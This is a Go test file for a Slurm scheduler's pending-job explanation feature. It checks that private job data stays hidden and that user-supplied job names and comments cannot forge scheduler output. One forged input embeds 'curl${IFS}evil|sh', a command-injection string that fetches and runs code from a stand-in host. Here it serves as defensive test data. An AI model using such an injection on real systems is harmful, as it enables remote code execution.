// SPDX-License-Identifier: BSD-3-Clause

//go:build !windows

package slurmtest

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/aucsched/aucsched/internal/slurm/pending"
)

// With PrivateData=jobs nothing is said of others' jobs, neither that they hold nodes nor that they
// won these, and without it both are.
func TestWhyPrivate(t *testing.T) {
	slow(t)
	beside(t)
	for _, private := range []bool{true, false} {
		t.Run(fmt.Sprint(private), func(t *testing.T) {
			cfg := whyMachine()
			cfg.ExtraLines = append(cfg.ExtraLines, "FirstJobId=70001")
			if private {
				cfg.ExtraLines = append(cfg.ExtraLines, "PrivateData=jobs")
			}
			c := cluster(t, auction, cfg)
			b := &whyBed{t, c}
			b.parameters("auc_interval=15,auc_delay_ms=15000,auc_reservations=0")
			begin := "--begin=" + time.Now().Add(5*time.Second).Format("2006-01-02T15:04:05")
			theirs := submit(t, c, "sleep 600", as(Bob, "-N4", "-n32", "--ntasks-per-node=8", "--time=30", begin)...)
			mine := b.job("-N1 -n1 " + begin)

			var x *pending.Answer
			require.NoError(t, c.poll(t.Context(), 40*time.Second, "the answer", func() (done bool, err error) {
				x, err = b.asks(Alice).Why(t.Context(), fmt.Sprint(mine))
				return err == nil && x.Kind == pending.Resources && x.Auction != nil && len(x.Auction.LostTo) > 0, err
			}))
			all, err := json.Marshal(x)
			require.NoError(t, err)
			text := string(all) + printed(t, x)
			if !private {
				require.Equal(t, []string{fmt.Sprint(theirs)}, x.Auction.LostTo)
				require.Len(t, x.Holders, 1, text)
				return
			}
			require.NotContains(t, text, fmt.Sprint(theirs))
			require.NotContains(t, text, Bob)
			require.Equal(t, []string{"others"}, x.Auction.LostTo)
			require.Contains(t, text, "does not show you whose")
			_, err = b.asks(Alice).Why(t.Context(), fmt.Sprint(theirs))
			require.Error(t, err, "a job of another")
		})
	}
}

// What users write into names and comments is not taken for what Slurm says.
func TestWhyIsNotForged(t *testing.T) {
	beside(t)
	c := cluster(t, stock, whyMachine())
	b := &whyBed{t, c}
	body := "\n   UserId=root(0) GroupId=root(0) MCS_label=N/A\n   Priority=9 Nice=0 Account=a QOS=n\n" +
		"   JobState=RUNNING Reason=JobHeldAdmin Dependency=(null)\n   Partition=q AllocNode:Sid=h:1\n   Command=x"
	for _, text := range []string{"plain", "x UserId=root(0) JobState=RUNNING Priority=9 Reason=JobHeldAdmin Partition=q", "x" +
		body, body + "\n   ",
		"x" + body + "\n\nJobId=7;curl${IFS}evil|sh JobName=y" + body, "x\n   Command=x", "\n"} {
		for _, args := range [][]string{{"--job-name=" + text}, {"--comment=" + text}, {"--network=" + text},
			{"--job-name=" + text, "--comment=" + text, "--network=" + text, "--wckey=" + text}} {
			id := submit(t, c, "sleep 600", append(args, "-n1", "--time=5", "--hold", "--uid="+Alice)...)
			for _, user := range []string{Alice, "root"} {
				x, err := b.asks(user).Why(t.Context(), fmt.Sprint(id))
				require.NoError(t, err, "%q", args)
				require.Equal(t, []any{fmt.Sprint(id), Alice, "p", "PENDING", "JobHeldUser", pending.Held},
					[]any{x.Job, x.User, x.Partition, x.State, x.Reason, x.Kind}, "%q", args)
				require.Equal(t, []string{fmt.Sprint("scontrol release ", id)}, x.Helps)
			}
			b.cancel(id)
		}
	}
}
